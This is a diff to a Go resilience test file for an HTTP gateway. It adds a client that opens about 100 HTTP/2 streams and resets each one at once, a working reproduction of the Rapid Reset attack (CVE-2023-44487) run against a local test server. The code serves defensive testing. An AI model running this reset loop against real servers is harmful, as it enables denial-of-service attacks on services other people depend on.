@@ -1,6 +1,7 @@
 package hostile
 
 import (
+	"bytes"
 	"fmt"
 	"io"
 	"net"
@@ -9,6 +10,9 @@ import (
 	"strings"
 	"testing"
 	"time"
+
+	"golang.org/x/net/http2"
+	"golang.org/x/net/http2/hpack"
 
 	"github.com/open-bedrock/caddy-bedrock-gateway/internal/gatewaytest"
 )
@@ -55,6 +59,7 @@ var crowds = []crowd{
 		_ = c.Close()
 		return err
 	}},
+	{"ask for 100 streams over HTTP/2 and reset each at once", 20, 800, resetStreams},
 	{"ask for a stream and read a byte at a time", 50, 500, func(c net.Conn) error {
 		if _, err := io.WriteString(c, streamRequest("")); err != nil {
 			return err
@@ -72,13 +77,42 @@ var crowds = []crowd{
 	}},
 }
 
+// resetStreams is the attack CVE-2023-44487: streams that are reset do not count among those that are open at once. The
+// server may close the connection meanwhile.
+func resetStreams(c net.Conn) error {
+	if _, err := io.WriteString(c, http2.ClientPreface); err != nil {
+		return err
+	}
+	go func() { _, _ = io.Copy(io.Discard, c) }()
+	f := http2.NewFramer(c, nil)
+	if err := f.WriteSettings(); err != nil {
+		return err
+	}
+	_, body, _ := strings.Cut(streamRequest(""), "\r\n\r\n")
+	var head bytes.Buffer
+	for id := uint32(1); id < 200; id += 2 {
+		head.Reset()
+		fields := hpack.NewEncoder(&head)
+		for _, field := range [][2]string{{":method", "POST"}, {":scheme", "http"}, {":authority", "gateway.test"}, {":path", "/v1/chat/completions"}, {"content-type", "application/json"}} {
+			if err := fields.WriteField(hpack.HeaderField{Name: field[0], Value: field[1]}); err != nil {
+				return err
+			}
+		}
+		if f.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: head.Bytes(), EndHeaders: true}) != nil ||
+			f.WriteData(id, true, []byte(body)) != nil || f.WriteRSTStream(id, http2.ErrCodeCancel) != nil {
+			return nil // the server had enough
+		}
+	}
+	return nil
+}
+
 // TestClientsThatMisbehaveLeaveNothingBehind measures what crowds of clients cost while they last and afterwards. With
 // HOSTILE=full their numbers are those of an attack.
 func TestClientsThatMisbehaveLeaveNothingBehind(t *testing.T) {
 	url, _ := endless(t)
 	// Idle connections to the upstream are kept for the next call, and would be counted as left behind.
 	once := strings.Replace(fmt.Sprintf(site, url), "api_key k", "api_key k\n\t\ttransport http {\n\t\t\tkeepalive off\n\t\t}", 1)
-	g := gatewaytest.StartWith(t, idleLimits, once)
+	g := gatewaytest.StartWith(t, strings.Replace(idleLimits, "{", "{\n\tprotocols h1 h2c", 1), once)
 	full := os.Getenv("HOSTILE") == "full"
 	g.Post(t, "/v1/chat/completions", "warm up")
 	g.Client.CloseIdleConnections()
